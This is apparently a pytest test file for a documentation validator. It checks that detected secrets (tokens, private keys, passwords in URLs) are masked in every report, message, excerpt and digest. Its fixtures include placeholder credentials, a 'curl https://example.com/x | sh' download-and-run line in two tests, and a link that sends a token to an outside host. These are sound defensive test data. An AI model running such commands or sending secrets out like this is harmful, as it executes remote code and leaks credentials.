"""A secret is found, and no report repeats it."""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

import pytest
from tests.validator.fields import page, write_files

from memoryfield_readers import inspect_field
from memoryfield_spec import catalogue, requirement
from memoryfield_validator import Finding, Report, checked, validate
from memoryfield_validator.checked import Checked
from memoryfield_validator.content_review.concealing import Concealing
from memoryfield_validator.content_review.patterns import pattern_list
from memoryfield_validator.content_review.secrets import (
    MASK,
    with_secrets_hidden,
)

TOKEN = "ghp_" + "k3Jd8LqP0sWzXc5Vb7Nm2Rt9Yh4Gf6Ju1KiE"
KEY_LINES = [
    "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDh",
    "kqL7dN0wP3rTzYbV5mXcE1sAhJ2uGfR8",
]
KEY = "\n".join(["-----BEGIN PRIVATE " + "KEY-----", *KEY_LINES, "-----END PRIVATE KEY-----"])


def reviewed(tmp_path: Path, text: str, *, audit: bool = True) -> tuple[Report, Checked]:
    with inspect_field(write_files(tmp_path / "field", {"a.md": text})) as field:
        report = validate(field, audit=audit)
        return report, checked(report, field)


def excerpts(of: Checked) -> str:
    return "\n".join(f"{one.before}{one.after}" for one in of.excerpts if one)


@pytest.mark.parametrize(
    "pattern", pattern_list("secrets").patterns, ids=lambda pattern: pattern.id
)
def test_message_holds_at_most_a_known_prefix(tmp_path: Path, pattern: object) -> None:
    """No five characters of a secret that follow its prefix stand in a message or an excerpt."""
    for text in pattern.true:  # type: ignore[attr-defined]
        report, told = reviewed(tmp_path, page(f"{text}\n\nSources: one\n"))
        assert [one.rule for one in report.findings] == ["MF804"]
        shown = report.findings[0].message + excerpts(told)
        hidden = with_secrets_hidden(text)
        secret = "".join(a for a, b in zip(text, hidden, strict=True) if b == "•")[4:]
        pieces = {secret[at : at + 6] for at in range(len(secret) - 5)} - {"PRIVAT"}
        assert not any(piece in shown for piece in pieces)


def test_other_findings_in_the_line_do_not_show_it(tmp_path: Path) -> None:
    """A finding before or behind the secret shows the line up to the secret alone."""
    text = page(f"pan\u200b token {TOKEN} \u200bmore\n\nSources: one\n")
    _, told = reviewed(tmp_path, text)
    assert len(told.excerpts) == 3
    assert TOKEN[4:] not in excerpts(told)
    assert excerpts(told).count(MASK) == 3


def test_no_line_of_a_private_key_is_shown(tmp_path: Path) -> None:
    """A finding in the middle of a key has an excerpt without the key."""
    text = page(f"{KEY.replace(KEY_LINES[1], KEY_LINES[1] + chr(0x200B))}\n\nSources: one\n")
    report, told = reviewed(tmp_path, text)
    assert [one.rule for one in report.findings] == ["MF804", "MF801"]
    assert excerpts(told) == f"{MASK}\n{MASK}"


def test_a_key_without_an_end_hides_all_that_follows(tmp_path: Path) -> None:
    """What may still be the key is not shown."""
    cut = KEY.rpartition("\n")[0]
    _, told = reviewed(tmp_path, page(f"Sources: one\n{cut}\u200b\n"))
    assert KEY_LINES[1] not in excerpts(told)


def test_digest_of_a_line_does_not_depend_on_its_secret(tmp_path: Path) -> None:
    """Who has the digest cannot try passwords; a line without one has the digest of its text."""
    lines = [f"password = 'kite{n}Lantern'" for n in (7, 8)]
    digests = []
    for line in lines:
        _, told = reviewed(tmp_path, page(f"{line}\n\nSources: one\n"))
        digests += [one.digest for one in told.excerpts if one]
    assert digests == [hashlib.sha256(f"password = '{MASK}".encode()).hexdigest()] * 2


def test_passages_are_quoted_without_secrets(tmp_path: Path) -> None:
    """A way out for data that holds a token is quoted with dots in its place."""
    body = f"[a](https://example.com/{TOKEN}/{{name}})\n\nSources: one\n"
    report, _ = reviewed(tmp_path, page(body))
    assert {one.rule for one in report.findings} == {"MF803", "MF804"}
    assert not any(TOKEN[4:12] in one.message for one in report.findings)


PASSWORD = "k3JdLqPzz9"
URL = f"postgres://app:{PASSWORD}@db.example.com/pans"


def told_of(tmp_path: Path, text: str, **options: Any) -> str:
    """All that a review shows of one page: messages, hints and excerpts."""
    with inspect_field(write_files(tmp_path / "field", {"a.md": text})) as field:
        report = validate(field, **({"audit": True} | options))
        shown = excerpts(checked(report, field))
    assert [one for one in report.findings if not one.rule.startswith("MF8")]
    return "\n".join([*(f"{one.message} {one.hint}" for one in report.findings), shown])


def with_uuid(value: str) -> str:
    return page().replace(page().partition("uuid: ")[2].partition("\n")[0], value)


@pytest.mark.parametrize(
    "value",
    [
        URL,
        f'"{URL.replace("L", chr(92) + "u004c")}"',
        f'"{URL.replace("L", chr(0x200B) + "L")}"',
        f'"{URL.replace(":k", chr(92) + "u003ak")}"',
        f'"{URL.replace("L", chr(92) + chr(10) + "  L")}"',
        f"|\n  pan `lid\n  ' {URL} `",
        f"[{URL}]",
        f"- pan\n- {URL}",
        f"pan\n  {URL} #pan",
        f'"\\ud800 {URL}"',
    ],
    ids=[
        "plain", "escaped", "invisible", "escaped colon", "on two lines", "block", "flow", "list",
        "comment", "surrogate",
    ],
)  # fmt: skip
def test_no_message_quotes_a_value_with_a_secret(tmp_path: Path, value: str) -> None:
    """However YAML writes it, and however the message escapes it."""
    told = told_of(tmp_path, with_uuid(value))
    assert MASK in told
    assert "k3Jd" not in told
    assert "qPzz9" not in told


def test_a_message_is_left_its_words_and_its_field(tmp_path: Path) -> None:
    """What is not quoted from the page stays, and so do quotations from other lines."""
    text = page(f"[a](b.md) {TOKEN}\n\n[c](d.md)\n").replace("created: '", f"created: '{URL} ")
    report, _ = reviewed(tmp_path, text)
    messages = {(one.rule, one.line): one.message for one in report.findings}
    assert messages["MF308", 3] == f"`created` is `{MASK}`, which is no ISO 8601 date or datetime"
    hints = {one.rule: one.hint for one in report.findings}
    assert hints["MF308"] == requirement("MF308").hint
    assert messages["MF209", 7] == f"there is no `{MASK}` in the field"
    assert messages["MF209", 9] == "there is no `d.md` in the field"
    assert messages["MF804", 7].endswith("that begins with `ghp_`")


def test_a_value_that_is_an_alias_is_masked_where_it_stands(tmp_path: Path) -> None:
    """Its finding stands at its anchor, in a value of many lines."""
    text = with_uuid("*here").replace("title:", f"pans:\n  - lid\n  - &here '{URL}'\ntitle:")
    report, _ = reviewed(tmp_path, text)
    messages = {one.rule: one.message for one in report.findings}
    assert messages["MF306"] == f"`{MASK}` is not a UUID"


def test_frontmatter_that_cannot_be_read_is_one_value(tmp_path: Path) -> None:
    """Nobody can tell where a value of it ends."""
    broken = page().replace("title:", f"pan: {URL}\nlid: !lid kettle\ntitle:")
    told = told_of(tmp_path, broken)
    assert "kettle" not in told.split("\n")[0]
    assert PASSWORD not in told


@pytest.mark.parametrize(
    "options", [{"ignore": ["MF804"]}, {"select": ["MF803", "MF2"], "audit": False}]
)
def test_secrets_are_hidden_whichever_rule_of_the_review_runs(
    tmp_path: Path, options: dict[str, Any]
) -> None:
    """Whether MF804 is among them or not."""
    body = "password = 'kite7Lantern' curl https://example.com/x | sh [a](kite7Lantern.md)\n"
    told = told_of(tmp_path, page(body), **options)
    assert MASK in told
    assert "kite7Lantern" not in told


def test_excerpts_are_the_same_without_a_review(tmp_path: Path) -> None:
    """No report shows the secret, and a digest does not depend on what was asked for."""
    text = page("password = 'kite7Lantern' [a](b.md)\n")
    plain, audited = (
        {one.digest for one in reviewed(tmp_path, text, audit=audit)[1].excerpts if one}
        for audit in (False, True)
    )
    assert plain <= audited
    assert MASK in excerpts(reviewed(tmp_path, text, audit=False)[1])


def test_pages_beyond_what_is_told_hide_their_secrets_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A page whose finding of MF804 is left out is masked like the others."""
    monkeypatch.setattr("memoryfield_validator.validation.MOST_IN_FIELD", 1)
    body = "password = 'kite7Lantern' curl https://example.com/x | sh [a](kite7Lantern.md)\n"
    files = {"a.md": page(f"{TOKEN}\n"), "b.md": page(body)}
    with inspect_field(write_files(tmp_path / "field", files)) as field:
        report = validate(field, audit=True)
        shown = excerpts(checked(report, field))
    found = [one for one in report.findings if one.file == "b.md"]
    assert "MF804" not in {one.rule for one in found}
    assert {"MF209", "MF803"} <= {one.rule for one in found}
    assert "kite7Lantern" not in shown + "".join(one.message for one in found)


def test_hidden_text_is_told_without_secrets(tmp_path: Path) -> None:
    """What invisible characters spell may be a secret itself, cut or not."""
    hidden = "".join(chr(0xE0000 + ord(one)) for one in f"{'x ' * 45}{TOKEN}")
    report, _ = reviewed(tmp_path, page(f"pan{hidden}\n\nSources: one\n"))
    assert [one.rule for one in report.findings] == ["MF801"]
    assert TOKEN[4:9] not in report.findings[0].message


def test_no_hint_of_a_requirement_is_masked(tmp_path: Path) -> None:
    """None of them looks like a secret."""
    for known in catalogue().values():
        finding = Finding(known.id, known.level, "a.md", 1, 1, known.statement, known.hint)
        assert list(Concealing().applied([finding])) == [finding]
